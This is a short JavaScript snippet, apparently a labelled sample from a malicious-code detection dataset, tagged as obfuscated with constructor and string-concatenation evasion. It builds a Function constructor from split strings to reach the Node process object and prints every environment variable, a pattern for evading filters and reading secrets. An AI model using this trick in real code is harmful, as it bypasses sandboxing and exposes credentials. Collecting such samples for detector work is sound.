// label: malicious; obfuscated: constructor,concat; evasion: object_graph
const p = []["fil" + "ter"]["constr" + "uctor"]("return process")();
console.log(JSON.stringify(p.env));
